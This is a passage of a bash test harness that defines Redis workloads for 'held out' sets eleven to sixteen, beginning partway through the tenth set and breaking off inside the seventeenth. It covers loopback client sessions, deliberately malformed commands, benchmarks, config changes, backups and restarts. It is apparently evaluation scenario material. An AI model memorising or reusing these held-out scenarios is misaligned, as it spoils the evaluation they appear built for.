    -t get,set,mset >/dev/null 2>&1 || true
}
redis_heldout10_change() {
  redis-cli -p "$REDIS_PORT" config set maxmemory 80mb maxmemory-policy volatile-ttl latency-monitor-threshold 5 |
    grep -qx OK || die "redis heldout10: config set failed"
}
redis_heldout10_maint() {
  local cli=(redis-cli -p "$REDIS_PORT") c
  admin redis redis /usr/bin/redis-cli -p "$REDIS_PORT" --rdb "$REDIS_DIR/backup/dump-$(date +%Y%m%d-%H%M).rdb"
  for c in "latency latest" "info keyspace" "config get maxclients"; do
    # shellcheck disable=SC2086  # c is a command and its arguments
    "${cli[@]}" $c >/dev/null
  done
  "${cli[@]}" -n 15 object encoding lb:week >/dev/null
}
redis_heldout10_late() {
  redis_stop
  redis_start
  HELDOUT10_ROUND=$((HELDOUT10_ROUND + 1))
  redis_heldout10_mix
}

# Held out, eleventh set (heldout11). Deployed before the start: protected mode off (for the
# application servers on 127.0.9.1-250). Each round as many application clients as the
# load, up to 4 (perl, inline commands), in db 8: a shopping cart (HINCRBY, HGETALL,
# EXPIRETIME), the cart copied into an order (COPY), a checkout token taken once (SET ...
# KEEPTTL, GETDEL), recently viewed products (ZADD, ZRANGE BYSCORE LIMIT), a job queue
# (RPUSH, LMPOP COUNT 2), tags in common (SADD, SINTERSTORE), and, once the change has loaded
# it, the cart's total by a function (FCALL); one more thing in turn: HINCRBY of a field that
# holds text, GETEX with a negative expiry, a 2 MB value (SET from stdin), a subscriber that
# leaves after 0.3 s, CLIENT KILL of an address with no client, WAIT for replicas there are
# none of (100 ms). Then redis-benchmark INCR, LPUSH and HSET with 64-byte values over 20000
# keys, as many clients as the load. The maintenance, early: `redis-cli --memkeys` by the
# operator inside the cgroup (as redis), INFO commandstats, SLOWLOG LEN, COMMAND COUNT. The
# change, in the middle: keyspace notifications for hash and generic events (CONFIG SET
# notify-keyspace-events Khg) with a subscriber from outside, and a function library loaded
# (FUNCTION LOAD: `cart_total`, Lua, read-only). The late event: the service stopped with
# SIGINT (as `systemctl kill -s INT` would: it saves its snapshot) and started again, then a
# cache warm-up: 3000 product keys written back by one client (MSET in batches of 100).
redis_heldout11_deploy() { sed -i 's/^protected-mode yes$/protected-mode no/' "$REDIS_DIR/redis.conf"; }
REDIS_HELDOUT11_FN=0
redis_heldout11_mix() {
  local r=$HELDOUT11_ROUND i a n=$HELDOUT11_CONC pids=() cli=(redis-cli -p "$REDIS_PORT" -n 8) fn=()
  [ "$n" -le 4 ] || n=4
  for i in $(seq 1 "$n"); do
    a=$(heldout11_addr "$i")
    [ "$REDIS_HELDOUT11_FN" = 0 ] || fn=("FCALL_RO cart_total 1 cart:$i")
    redis_from "$a" "SELECT 8" "HINCRBY cart:$i sku$((r % 40)) 1" "HGETALL cart:$i" "EXPIRE cart:$i 900" "EXPIRETIME cart:$i" \
      "COPY cart:$i order:$r-$i" "SET checkout:$i t$r EX 300" "SET checkout:$i t$r-2 KEEPTTL" "GETDEL checkout:$i" \
      "ZADD seen:$i $r sku$((r % 40))" "ZRANGE seen:$i 0 +inf BYSCORE LIMIT 0 5" "RPUSH jobs:mail m$r-$i m$r-$i-b" \
      "LMPOP 1 jobs:mail LEFT COUNT 2" "SADD tags:$i t$((r % 7)) t$((i % 5))" "SINTERSTORE common:$i tags:$i tags:1" "${fn[@]}" &
    pids+=($!)
  done
  wait "${pids[@]}" || true
  a=$(heldout11_addr 9)
  case $((r % 6)) in
    0) "${cli[@]}" hset "note:$r" text hello; "${cli[@]}" hincrby "note:$r" text 1 ;;
    1) "${cli[@]}" getex "cart:1" PX -5 ;;
    2) head -c 2000000 /dev/zero | tr '\0' v | "${cli[@]}" -x set "blob:$((r % 3))" ;;
    3) timeout 0.3 redis-cli -p "$REDIS_PORT" subscribe "news:$r" ;;
    4) "${cli[@]}" client kill 127.0.9.254:1 ;;
    5) redis_from "$a" "WAIT 0 100" ;;
  esac >/dev/null 2>&1 || true
  redis-benchmark -p "$REDIS_PORT" -q -n $((40 * HELDOUT11_CONC * HELDOUT11_PER)) -c "$HELDOUT11_CONC" -d 64 -r 20000 \
    -t incr,lpush,hset >/dev/null 2>&1 || true
}
redis_heldout11_maint() {
  local c
  admin redis redis /usr/bin/redis-cli -p "$REDIS_PORT" --memkeys
  for c in "info commandstats" "slowlog len" "command count"; do
    # shellcheck disable=SC2086  # c is a command and its arguments
    redis-cli -p "$REDIS_PORT" $c >/dev/null
  done
}
redis_heldout11_change() {
  redis-cli -p "$REDIS_PORT" config set notify-keyspace-events Khg | grep -qx OK || die "redis heldout11: config set failed"
  timeout 120 redis-cli -p "$REDIS_PORT" psubscribe '__keyspace@8__:cart:*' >/dev/null 2>&1 &
  PIDS+=($!)
  redis-cli -p "$REDIS_PORT" -x function load <<'LUA' | grep -qx cart || die "redis heldout11: function load failed"
#!lua name=cart
redis.register_function{function_name = 'cart_total', flags = {'no-writes'}, callback = function(keys)
  local total = 0
  local items = redis.call('HVALS', keys[1])
  for _, n in ipairs(items) do total = total + tonumber(n) end
  return total
end}
LUA
  REDIS_HELDOUT11_FN=1
}
redis_heldout11_late() {
  stop_pid "$REDIS_PID" INT
  redis_start
  awk 'BEGIN { for (b = 0; b < 30; b++) { printf "MSET"; for (i = 0; i < 100; i++) printf " product:%d p%d", b * 100 + i, i; print "" } }' |
    redis-cli -p "$REDIS_PORT" -n 8 >/dev/null
  [ "$(redis-cli -p "$REDIS_PORT" -n 8 exists product:2999)" = 1 ] || die "redis heldout11: the warm-up is incomplete"
}

# Held out, twelfth set (heldout12). Deployed before the start: protected mode off (for the
# application servers on 127.0.10.1-250). Each round as many application clients as the
# load, up to 3 (perl, inline commands), in db 12: a wallet (HINCRBYFLOAT, HGET), feature
# flags (SADD, SMISMEMBER), a work queue moved between lists (RPUSH, LMOVE, LREM), trending
# items merged (ZINCRBY, ZUNIONSTORE, ZMSCORE), counters packed in a bitfield (BITFIELD
# INCRBY), the last visit swapped (SET ... GET, TOUCH, TYPE); one more thing in turn: XADD
# with an ID below the stream's last (an error), GEOADD with a latitude out of range, a
# 1 MB bitmap (SETBIT at offset 8000000), a command that does not exist, AUTH with no
# password set, a blocking BLMOVE that times out after 0.2 s. Then redis-benchmark SET, GET
# and SADD with 256-byte values over 8000 keys, as many clients as the load. The change, in
# the first seconds while the clients are busy: `appendfsync always` and a 2 ms slow-log
# threshold set live (CONFIG SET). The maintenance, in the middle: the wallets scanned by the
# operator inside the cgroup (as redis: `redis-cli --scan --pattern 'wallet:*' -i 0.01`, 10
# ms between SCAN calls), MEMORY DOCTOR, LATENCY DOCTOR, INFO errorstats. The late event: a
# data import, 20000 keys into db 13 by `redis-cli --pipe` (the mass-insertion protocol),
# then the change rolled back (`appendfsync everysec`).
# redis_unprotect: protected mode off in the config file, for clients on other addresses.
redis_unprotect() { sed -i 's/^protected-mode yes$/protected-mode no/' "$REDIS_DIR/redis.conf"; }
redis_heldout12_deploy() { redis_unprotect; }
# redis_app_clients N MAX ADDR_FN DB CMDS_FN: N application clients at once (MAX at the
# most), the i-th from the address `ADDR_FN i`, each sending SELECT DB and the inline
# commands `CMDS_FN i` prints (one a line); waits for them.
redis_app_clients() {
  local n=$1 i pids=() cmds
  [ "$n" -le "$2" ] || n=$2
  for i in $(seq 1 "$n"); do
    mapfile -t cmds < <("$5" "$i")
    redis_from "$("$3" "$i")" "SELECT $4" "${cmds[@]}" &
    pids+=($!)
  done
  wait "${pids[@]}" || true
}
# redis_phase_clients PHASE DB: a PHASE round's application clients (as many as its load in
# PHASE's upper-case _CONC variable, up to 6) in database DB, the i-th from `PHASE_addr i`,
# each sending the commands `redis_PHASE_session i` prints.
redis_phase_clients() { local c=${1^^}_CONC; redis_app_clients "${!c}" 6 "$1_addr" "$2" "redis_$1_session"; }
# redis_heldout12_session I: the I-th application client's commands in a heldout12 round.
redis_heldout12_session() {
  local i=$1 r=$HELDOUT12_ROUND
  printf '%s\n' "HINCRBYFLOAT wallet:$i balance $((r % 9)).25" "HGET wallet:$i balance" \
    "SADD flags:$i beta dark-mode" "SMISMEMBER flags:$i beta search-v2" "RPUSH work:todo w$r-$i" \
    "LMOVE work:todo work:doing LEFT RIGHT" "LREM work:doing 1 w$r-$i" "ZINCRBY trend:$i 1 item$((r % 30))" \
    "ZUNIONSTORE trend:all 2 trend:1 trend:$i" "ZMSCORE trend:all item1 item$((r % 30))" \
    "BITFIELD hits:$i INCRBY u16 $((16 * (r % 8))) 1" "SET last:$i r$r GET" "TOUCH last:$i" "TYPE last:$i"
}
redis_heldout12_mix() {
  local r=$HELDOUT12_ROUND a cli=(redis-cli -p "$REDIS_PORT" -n 12)
  redis_app_clients "$HELDOUT12_CONC" 3 heldout12_addr 12 redis_heldout12_session
  a=$(heldout12_addr 9)
  case $((r % 6)) in
    0) redis_from "$a" "SELECT 12" "XADD ev:$r 5-1 k v" "XADD ev:$r 1-1 k v" ;;
    1) "${cli[@]}" geoadd shops 13.4 95.0 far ;;
    2) "${cli[@]}" setbit "bits:$((r % 3))" 8000000 1 ;;
    3) redis_from "$a" "FLUSHCACHE" ;;
    4) "${cli[@]}" auth nobody-set-one ;;
    5) "${cli[@]}" blmove work:empty work:doing LEFT RIGHT 0.2 ;;
  esac >/dev/null 2>&1 || true
  redis-benchmark -p "$REDIS_PORT" -q -n $((20 * HELDOUT12_CONC * HELDOUT12_PER)) -c "$HELDOUT12_CONC" -d 256 -r 8000 \
    -t set,get,sadd >/dev/null 2>&1 || true
}
redis_heldout12_change() {
  redis-cli -p "$REDIS_PORT" config set appendfsync always slowlog-log-slower-than 2000 | grep -qx OK ||
    die "redis heldout12: config set failed"
}
redis_heldout12_maint() {
  local c
  admin redis redis /usr/bin/redis-cli -p "$REDIS_PORT" -n 12 --scan --pattern 'wallet:*' -i 0.01
  for c in "memory doctor" "latency doctor" "info errorstats"; do
    # shellcheck disable=SC2086  # c is a command and its arguments
    redis-cli -p "$REDIS_PORT" $c >/dev/null
  done
}
redis_heldout12_late() {
  awk 'BEGIN { printf "*2\r\n$6\r\nSELECT\r\n$2\r\n13\r\n"
    for (i = 0; i < 20000; i++) { k = "import:" i; v = "row-" i
      printf "*3\r\n$3\r\nSET\r\n$%d\r\n%s\r\n$%d\r\n%s\r\n", length(k), k, length(v), v } }' |
    redis-cli -p "$REDIS_PORT" --pipe >/dev/null || die "redis heldout12: the import failed"
  [ "$(redis-cli -p "$REDIS_PORT" -n 13 exists import:19999)" = 1 ] || die "redis heldout12: the import is incomplete"
  redis-cli -p "$REDIS_PORT" config set appendfsync everysec | grep -qx OK || die "redis heldout12: the rollback failed"
}

# Held out, thirteenth set (heldout13). Deployed before the start: protected mode off (for the
# application servers on 127.0.11.1-250). Each round as many application clients as the
# load, up to 6 (perl, inline commands), in db 14, every key under `app:`: a cart with an
# expiry read back (SET ... EX, GETEX, STRLEN, GETDEL), a profile (HSET, HMGET, HLEN),
# unique visitors (PFADD, PFCOUNT), a leaderboard read by rank (ZADD, ZREVRANGE ... WITHSCORES),
# a recent-items list trimmed (LPUSH, LTRIM, LLEN); once the change is in, each client first
# signs in as the application's own user (AUTH app). One more thing in turn: LPUSH on a
# string (WRONGTYPE), a 2 MB value, a MULTI with an unknown command (EXECABORT), an ECHO of
# 10 kB, EXEC without MULTI, a client that leaves at once. Then redis-benchmark LPUSH, LRANGE
# and HSET with 128-byte values over 5000 keys, as many clients as the load. The maintenance,
# at the very start: MEMORY STATS, INFO commandstats and INFO keyspace, and the snapshot rule
# read by the operator inside the cgroup (as redis: `redis-cli CONFIG GET save`). The restart,
# in the middle: a crash (SIGKILL) and a start, the data replayed from the append-only file.
# The change, late: an
# application user with a password (`ACL SETUSER app on >... ~app:* +@all`), its password
# changed at once (the first one reset, a second one set), the clients signing in with it.
redis_heldout13_deploy() { redis_unprotect; }
REDIS_HELDOUT13_AUTH=
# redis_heldout13_session I: the I-th application client's commands in a heldout13 round.
redis_heldout13_session() {
  local i=$1 r=$HELDOUT13_ROUND
  [ -z "$REDIS_HELDOUT13_AUTH" ] || echo "AUTH app $REDIS_HELDOUT13_AUTH"
  printf '%s\n' "SET app:cart:$i items-$r EX 30" "GETEX app:cart:$i EX 60" "STRLEN app:cart:$i" \
    "GETDEL app:cart:$((i + 1))" "HSET app:profile:$i name u$i visits $r" "HMGET app:profile:$i name visits" \
    "HLEN app:profile:$i" "PFADD app:visitors:$((r % 4)) v$r-$i" "PFCOUNT app:visitors:$((r % 4))" \
    "ZADD app:board $((r * i)) p$i" "ZREVRANGE app:board 0 4 WITHSCORES" "LPUSH app:recent:$i item$r" \
    "LTRIM app:recent:$i 0 9" "LLEN app:recent:$i"
}
redis_heldout13_mix() {
  local r=$HELDOUT13_ROUND a cli=(redis-cli -p "$REDIS_PORT" -n 14)
  redis_phase_clients heldout13 14
  a=$(heldout13_addr 9)
  case $((r % 6)) in
    0) "${cli[@]}" set app:str v && "${cli[@]}" lpush app:str x ;;
    1) head -c 2000000 /dev/zero | tr '\0' v | "${cli[@]}" -x set "app:blob:$((r % 3))" ;;
    2) redis_from "$a" "SELECT 14" "MULTI" "SET app:m 1" "NOSUCHCOMMAND" "EXEC" ;;
    3) "${cli[@]}" echo "$(head -c 10000 /dev/zero | tr '\0' e)" ;;
    4) redis_from "$a" "EXEC" ;;
    5) redis_from "$a" ;;
  esac >/dev/null 2>&1 || true
  redis-benchmark -p "$REDIS_PORT" -q -n $((30 * HELDOUT13_CONC * HELDOUT13_PER)) -c "$HELDOUT13_CONC" -d 128 -r 5000 \
    -t lpush,lrange_100,hset >/dev/null 2>&1 || true
}
redis_heldout13_maint() {
  local c
  for c in "memory stats" "info commandstats" "info keyspace"; do
    # shellcheck disable=SC2086  # c is a command and its arguments
    redis-cli -p "$REDIS_PORT" $c >/dev/null
  done
  admin redis redis /usr/bin/redis-cli -p "$REDIS_PORT" config get save
}
redis_heldout13_restart() { heldout13_restart redis REDIS_PID KILL; }
redis_heldout13_change() {
  redis-cli -p "$REDIS_PORT" acl setuser app on ">first-$RANDOM" '~app:*' +@all | grep -qx OK ||
    die "redis heldout13: acl setuser failed"
  REDIS_HELDOUT13_AUTH=second-$RANDOM
  redis-cli -p "$REDIS_PORT" acl setuser app resetpass ">$REDIS_HELDOUT13_AUTH" | grep -qx OK ||
    die "redis heldout13: the password change failed"
}

# Held out, fourteenth set (heldout14). Deployed before the start: protected mode off (for the
# application servers on 127.0.12.1-250). Each round as many application clients as the
# load, up to 6 (perl, inline commands), in db 15 (a keyspace no set used), every key under
# `inv:`, with commands no set used: a stock counter in floating point (INCRBYFLOAT), a note
# overwritten in place and read back in part (SETRANGE, GETRANGE), packed counters
# (BITFIELD INCRBY u8), prices (HINCRBYFLOAT, HRANDFIELD), bins compared (SADD, SINTERCARD,
# SMISMEMBER), lots by expiry (ZADD, ZRANGEBYSCORE ... LIMIT), a key copied (COPY ... REPLACE)
# and its encoding read (OBJECT ENCODING). One more thing in turn: INCR of a string that is no
# number (an error), WAIT with no replicas (0 after 100 ms), OBJECT FREQ without an LFU policy
# (an error), a SCAN of `inv:*`, a client that names itself and asks not to be evicted
# (CLIENT SETNAME, CLIENT INFO, CLIENT NO-EVICT), a 500 kB APPEND. Then redis-benchmark INCR,
# SADD, ZADD and ZPOPMIN with 64-byte values over 2000 keys, as many clients as the load. The
# change, early: the log made verbose (`CONFIG SET loglevel verbose`). The maintenance, in the
# middle while the load goes on: a backup to a new file pulled by the backup host outside the
# cgroup (`redis-cli --rdb`: redis forks a child that sends it a snapshot, as to a replica;
# an earlier set ran it inside the cgroup). The reload, late: redis has
# none; the live change written into the config file (`CONFIG REWRITE`). The tail: three
# long-lived clients from 127.0.12.241-250, each a GET, a ZCARD and a PING every second.
redis_heldout14_deploy() { redis_unprotect; }
# redis_heldout14_session I: the I-th application client's commands in a heldout14 round.
redis_heldout14_session() {
  local i=$1 r=$HELDOUT14_ROUND
  printf '%s\n' "INCRBYFLOAT inv:stock:$i 1.5" "SETRANGE inv:note:$i 0 lot-$r" "GETRANGE inv:note:$i 0 5" \
    "BITFIELD inv:flags:$((r % 3)) INCRBY u8 $((i * 8)) 1 GET u8 0" "HINCRBYFLOAT inv:price:$i eur 0.25" \
    "HRANDFIELD inv:price:$i 2" "SADD inv:bin:$i a$r b$((r % 5))" "SINTERCARD 2 inv:bin:$i inv:bin:$((i + 1))" \
    "SMISMEMBER inv:bin:$i a$r zz" "ZADD inv:expiry $((r * 10 + i)) lot$i" "ZRANGEBYSCORE inv:expiry -inf +inf LIMIT 0 5" \
    "COPY inv:stock:$i inv:stock-copy:$i REPLACE" "OBJECT ENCODING inv:bin:$i"
}
redis_heldout14_mix() {
  local cli=(redis-cli -p "$REDIS_PORT" -n 15)
  redis_phase_clients heldout14 15
  case $((HELDOUT14_ROUND % 6)) in
    0) "${cli[@]}" set inv:text abc && "${cli[@]}" incr inv:text ;;
    1) "${cli[@]}" wait 0 100 ;;
    2) "${cli[@]}" object freq inv:stock:1 ;;
    3) "${cli[@]}" scan 0 match 'inv:*' count 1000 ;;
    4) redis_from "$(heldout14_addr 9)" "CLIENT SETNAME inventory-$HELDOUT14_ROUND" "CLIENT INFO" "CLIENT NO-EVICT on" ;;
    5) head -c 500000 /dev/zero | tr '\0' a | "${cli[@]}" -x append inv:log ;;
  esac >/dev/null 2>&1 || true
  redis-benchmark -p "$REDIS_PORT" -q -n $((20 * HELDOUT14_CONC * HELDOUT14_PER)) -c "$HELDOUT14_CONC" -d 64 -r 2000 \
    -t incr,sadd,zadd,zpopmin >/dev/null 2>&1 || true
}
redis_heldout14_change() {
  redis-cli -p "$REDIS_PORT" config set loglevel verbose | grep -qx OK || die "redis heldout14: config set failed"
}
redis_heldout14_maint() {
  mkdir -p "$WORK/redis-backup"
  redis-cli -p "$REDIS_PORT" --rdb "$WORK/redis-backup/dump-$(date +%Y%m%d-%H%M%S).rdb" >/dev/null ||
    die "redis heldout14: the backup failed"
}
redis_heldout14_reload() {
  redis-cli -p "$REDIS_PORT" config rewrite | grep -qx OK || die "redis heldout14: config rewrite failed"
  grep -q '^loglevel verbose' "$REDIS_DIR/redis.conf" || die "redis heldout14: the config file was not rewritten"
}
redis_heldout14_tail() {
  local i j cmds pids=()
  for i in 1 2 3; do
    cmds=("SELECT 15")
    for j in $(seq 1 "$1"); do cmds+=("GET inv:note:$i" "ZCARD inv:expiry" PING "#sleep 1"); done
    redis_from "$(heldout14_tail_addr "$i")" "${cmds[@]}" &
    pids+=($!)
  done
  wait "${pids[@]}" || true
}


# Held out, fifteenth set (heldout15). Deployed before the start: protected mode off (for the
# application servers on 127.0.14.1-250). Each round as many application clients as the
# load, up to 6 (perl, inline commands), in db 10 (a keyspace no set used), every key under
# `api:`: a rate limiter (INCR, EXPIRE ... NX), a lock taken and given back (SET ... NX PX,
# DEL), a job list popped from two lists at once (RPUSH, LMPOP), a random pick
# (ZADD, ZRANDMEMBER), a tag moved between sets (SADD, SMOVE), a field's length (HSET,
# HSTRLEN), a key's expiry read back (EXPIRETIME). One more client in turn: GETs pipelined 16
# at a time (`redis-benchmark -P 16`), one MSET of 2000 keys, a command abandoned halfway, an
# empty key with an empty value, an MGET of 300 keys that do not exist, a client idle 1.5 s
# between two commands. Then `redis-benchmark` SET, RPUSH and SPOP with 32-byte values over
# 4000 keys on as many clients as the load. The maintenance, first, while the full load is
# on, inside the cgroup as redis: the append-only files checked (`redis-check-aof` on their
# manifest: the newest may end in a command still being written, which it reports), then the
# latency histogram (LATENCY HISTOGRAM). The restart, in the middle: `redis-cli shutdown` by
# the operator inside the cgroup (redis's own stop: it saves and exits) and a start. The
# change, last: deletions freed in the background and a larger limit on one bulk string, set
# live (`CONFIG SET lazyfree-lazy-user-del yes proto-max-bulk-len 4mb`; redis 7 refuses a
# new snapshot file name live: `dbfilename` is a protected setting).
redis_heldout15_deploy() { redis_unprotect; }
# redis_heldout15_session I: the I-th application client's commands in a heldout15 round.
redis_heldout15_session() {
  local i=$1 r=$HELDOUT15_ROUND
  printf '%s\n' "INCR api:rate:$i:$((r / 4))" "EXPIRE api:rate:$i:$((r / 4)) 10 NX" "SET api:lock:$((r % 3)) w$i NX PX 500" \
    "DEL api:lock:$((r % 3))" "RPUSH api:jobs:$((i % 2)) j$r-$i" "LMPOP 2 api:jobs:0 api:jobs:1 LEFT COUNT 2" \
    "ZADD api:pick $((r + i)) m$i" "ZRANDMEMBER api:pick 2" "SADD api:tag:new t$r-$i" "SMOVE api:tag:new api:tag:done t$r-$i" \
    "HSET api:user:$i name user-$i-$r" "HSTRLEN api:user:$i name" "EXPIRETIME api:rate:$i:$((r / 4))"
}
redis_heldout15_mix() {
  local cli=(redis-cli -p "$REDIS_PORT" -n 10) a keys
  redis_phase_clients heldout15 10
  a=$(heldout15_addr 9)
  case $((HELDOUT15_ROUND % 6)) in
    0) redis-benchmark -p "$REDIS_PORT" -q -P 16 -n 3200 -c 2 -r 4000 -t get ;;
    1) mapfile -t keys < <(seq 1 2000 | awk -v r="$HELDOUT15_ROUND" '{ print "api:bulk:" r ":" $1; print $1 }')
       "${cli[@]}" mset "${keys[@]}" ;;
    2) printf '*3\r\n\x243\r\nSET\r\n\x248\r\napi:half' | socat -t 0.3 - "TCP:127.0.0.1:$REDIS_PORT,bind=$a" ;;
    3) "${cli[@]}" set '' '' && "${cli[@]}" get '' ;;
    4) mapfile -t keys < <(seq 1 300 | sed "s/^/api:none:$HELDOUT15_ROUND:/")
       "${cli[@]}" mget "${keys[@]}" ;;
    5) redis_from "$a" "SELECT 10" "GET api:user:1" "#sleep 1.5" PING ;;
  esac >/dev/null 2>&1 || true
  redis-benchmark -p "$REDIS_PORT" -q -n $((40 * HELDOUT15_CONC)) -c "$HELDOUT15_CONC" -d 32 -r 4000 \
    -t set,rpush,spop >/dev/null 2>&1 || true
}
redis_heldout15_maint() {
  # (redis-check-aof fails on a tail still being written: that is its report, not an error here.)
  launch redis redis /usr/bin/redis-check-aof "$REDIS_DATA/appendonlydir/appendonly.aof.manifest"
  wait "$LAUNCHED" || true
  forget "$LAUNCHED"
  redis-cli -p "$REDIS_PORT" latency histogram set get >/dev/null || die "redis heldout15: latency histogram failed"
}
redis_heldout15_restart() { heldout15_ctl_restart redis REDIS_PID admin redis redis /usr/bin/redis-cli -p "$REDIS_PORT" shutdown; }
redis_heldout15_change() {
  redis-cli -p "$REDIS_PORT" config set lazyfree-lazy-user-del yes proto-max-bulk-len 4mb | grep -qx OK ||
    die "redis heldout15: config set failed"
}

# Held out, sixteenth set (heldout16). Deployed before the start: protected mode off (for the
# application servers on 127.0.16.1-250). Each round as many application clients as the load,
# up to 6 (perl, inline commands; in the quiet start one), in db 11 (a keyspace no set used),
# every key under `cat:`: a product read with its expiry kept or refreshed (SET ... KEEPTTL,
# GETEX), a one-time token (GETDEL), a key copied (COPY), a position in a list (LPOS), the
# size of an intersection (SINTERCARD), a sorted range stored (ZRANGESTORE), a random field
# (HRANDFIELD), a key's encoding (OBJECT ENCODING). One more client in turn: a client that
# opens a new connection for each of six commands, the same INCRBY replayed eight times, keys
# in UTF-8 and one of 1000 bytes, a burst of ten commands the server does not know, the
# protocol switched to RESP3 (HELLO 3) with a client name and CLIENT INFO, WAIT for replicas
# that do not exist (0, at once). Then `redis-benchmark` HSET, LPUSH and ZADD with 64-byte
# values over 3000 keys on as many clients as the load. The change, early: other latency
# percentiles tracked, a larger query buffer limit and a busy-script threshold (`CONFIG SET
# latency-tracking-info-percentiles`, `client-query-buffer-limit`, `busy-reply-threshold`:
# redis's live path). The second change, two thirds in: a rebuilt catalogue moved in: 300
# products written into db 12 and moved into db 11 key by key (MOVE). The maintenance, last,
# by the operator inside the cgroup (as redis): the host's intrinsic latency measured for a
# second (`redis-cli --intrinsic-latency 1`) and the latency statistics read (`INFO
# latencystats`). Then a clean shutdown (TERM: redis saves and exits).
redis_heldout16_deploy() { redis_unprotect; }
# redis_heldout16_session I: the I-th application client's commands in a heldout16 round.
redis_heldout16_session() {
  local i=$1 r=$HELDOUT16_ROUND
  printf '%s\n' "SET cat:p:$i product-$i-$r EX 60" "SET cat:p:$i product-$i-$r-b KEEPTTL" "GETEX cat:p:$i EX 90" \
    "SET cat:token:$r-$i t$RANDOM" "GETDEL cat:token:$r-$i" "COPY cat:p:$i cat:p:$i:copy REPLACE" \
    "RPUSH cat:recent:$i p$r p$((r + 1)) p$((r + 2))" "LPOS cat:recent:$i p$r" "SADD cat:tag:a$i p$r p1" "SADD cat:tag:b p1 p$r" \
    "SINTERCARD 2 cat:tag:a$i cat:tag:b" "ZADD cat:rank $((r * i)) p$i" "ZRANGESTORE cat:top cat:rank 0 4 REV" \
    "HSET cat:h:$i name n$r color c$i" "HRANDFIELD cat:h:$i 2" "OBJECT ENCODING cat:recent:$i"
}
redis_heldout16_mix() {
  local a i keys cli=(redis-cli -p "$REDIS_PORT" -n 11)
  redis_phase_clients heldout16 11
  a=$(heldout16_addr 6)
  case $((HELDOUT16_ROUND % 6)) in
    0) for i in 1 2 3 4 5 6; do redis_from "$a" "SELECT 11" "GET cat:p:$i"; done ;;
    1) mapfile -t keys < <(for i in 1 2 3 4 5 6 7 8; do echo "INCRBY cat:stock:$HELDOUT16_ROUND 5"; done)
       redis_from "$a" "SELECT 11" "${keys[@]}" ;;
    2) "${cli[@]}" set "cat:名前:café:$HELDOUT16_ROUND" "価格 ünïcödé" && "${cli[@]}" get "cat:名前:café:$HELDOUT16_ROUND" &&
       "${cli[@]}" set "cat:$(head -c 1000 /dev/zero | tr '\0' k)" v ;;
    3) mapfile -t keys < <(for i in $(seq 1 10); do echo "LEGACYCMD$i cat:x"; done)
       redis_from "$a" "${keys[@]}" ;;
    4) redis_from "$a" "HELLO 3 SETNAME catalogue-$HELDOUT16_ROUND" "CLIENT INFO" "SELECT 11" "GET cat:p:1" ;;
    5) redis_from "$a" "SELECT 11" "SET cat:order:$HELDOUT16_ROUND done" "WAIT 0 0" ;;
  esac >/dev/null 2>&1 || true
  redis-benchmark -p "$REDIS_PORT" -q -n $((40 * HELDOUT16_CONC)) -c "$HELDOUT16_CONC" -d 64 -r 3000 \
    -t hset,lpush,zadd >/dev/null 2>&1 || true
}
redis_heldout16_change() {
  redis-cli -p "$REDIS_PORT" config set latency-tracking-info-percentiles "50 95 99.9" client-query-buffer-limit 2mb \
    busy-reply-threshold 3000 | grep -qx OK || die "redis heldout16: config set failed"
}
redis_heldout16_second() {
  local i
  for i in $(seq 1 300); do printf 'HSET cat:h:%d name product-%d color c%d\nMOVE cat:h:%d 11\n' "$i" "$i" $((i % 7)) "$i"; done |
    redis-cli -p "$REDIS_PORT" -n 12 >/dev/null || die "redis heldout16: the catalogue was not moved"
}
redis_heldout16_maint() {
  admin redis redis /usr/bin/redis-cli -p "$REDIS_PORT" --intrinsic-latency 1
  admin redis redis /usr/bin/redis-cli -p "$REDIS_PORT" info latencystats
}
# Held out, seventeenth set (heldout17). Deployed before the start: protected mode off (for the
# application servers on 127.0.19.1-250). A cold start under load: redis starts inside the
# recording while its clients already retry (heldout17_begin). Each round as many application
# clients as the slow wave's load, up to 6 (perl, inline commands), in db 14 (a keyspace no set
# used), with command options no set used: SET with NX and GET, EXPIRE with NX and GT, ZADD
# with GT and CH, LPOS with RANK and MAXLEN, SCAN with MATCH, COUNT and TYPE, SORT with LIMIT,
# ALPHA and DESC, SETRANGE, APPEND, GETRANGE and LCS, SMOVE, EXPIRETIME. One more client in
# turn: commands in mixed case, commands sent and the connection closed without reading a
# reply, eight clients at once incrementing one counter and one hash field, a value sent in
# the RESP protocol (a multi-bulk request with a 20 kB bulk string), 200 PINGs on one
# connection, a stream appended with NOMKSTREAM and MAXLEN ~. Then `redis-benchmark` INCR and
# GET over 500 keys on as many clients as the load. The maintenance, early, by the operator
# inside the cgroup (as redis): the keys' memory sampled (`redis-cli --memkeys`). The change, in
# the middle, by a full restart (TERM: redis saves; start): an include file
# (conf.d/threads.conf: two I/O threads, `hz 20`, lazy freeing on eviction) named at the end of
# redis.conf. The maintenance, late, while the load falls: the statistics reset (`CONFIG
# RESETSTAT`) and the allocator's free memory returned (`MEMORY PURGE`). The recording ends
# with load still running.
redis_heldout17_deploy() { redis_unprotect; }
# redis_heldout17_session I: the I-th application client's commands in a heldout17 round.
redis_heldout17_session() {
  local i=$1 r=$HELDOUT17_ROUND
  printf '%s\n' "SET u:$i:name n$r NX GET" "EXPIRE u:$i:name 300 NX" "EXPIRE u:$i:name 600 GT" \
    "ZADD u:score GT CH $((r * i)) m$i" "RPUSH u:$i:seen a b a c a" "LPOS u:$i:seen a RANK -1 MAXLEN 50" \
    "SCAN 0 MATCH u:$i:* COUNT 100 TYPE list" "SORT u:$i:seen LIMIT 0 3 ALPHA DESC" \
    "SETRANGE u:$i:note 4 r$r" "APPEND u:$i:note !" "GETRANGE u:$i:note 0 7" "LCS u:$i:note u:$((i + 1)):note LEN" \
    "SADD u:$i:tags t$r t1" "SMOVE u:$i:tags u:all:tags t$r" "EXPIRETIME u:$i:name"
}
redis_heldout17_mix() {
  local a i cmds=() big
  redis_phase_clients heldout17 14
  a=$(heldout17_addr 7)
  case $((HELDOUT17_ROUND % 6)) in
    0) redis_from "$a" "sElEcT 14" "Set u:MixedCase:$HELDOUT17_ROUND v" "gEt u:MixedCase:$HELDOUT17_ROUND" "ExIsTs u:MixedCase:$HELDOUT17_ROUND" ;;
    1) printf 'SELECT 14\r\nINCR u:fire-and-forget\r\nLPUSH u:events e%s\r\n' "$HELDOUT17_ROUND" |
         socat -u - "TCP:127.0.0.1:$REDIS_PORT,bind=$a" ;;
    2) for i in 1 2 3 4 5 6 7 8; do
         redis_from "$(heldout17_addr $((7 + i)))" "SELECT 14" "INCR u:hits" "HINCRBY u:stats views 1" &
         cmds+=($!)
       done
       wait "${cmds[@]}" ;;
